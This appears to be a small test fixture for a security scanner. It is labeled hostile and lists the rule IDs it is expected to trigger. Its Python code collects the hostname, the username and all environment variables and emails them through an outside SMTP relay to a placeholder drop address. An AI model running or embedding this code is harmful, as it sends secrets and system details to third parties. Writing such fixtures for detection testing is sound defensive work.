# label: hostile
# expect: V301 V801
# note: Mails hostname, user and environment through a stranger's relay.
import getpass
import os
import platform
import smtplib
from email.message import EmailMessage

m = EmailMessage()
m["From"] = "ci@example.org"
m["To"] = "drop@example.net"
m["Subject"] = f"{platform.node()} / {getpass.getuser()}"
m.set_content("\n".join(f"{k}={v}" for k, v in sorted(os.environ.items())))

with smtplib.SMTP("mail.example.net", 25, timeout=5) as relay:
    relay.send_message(m)
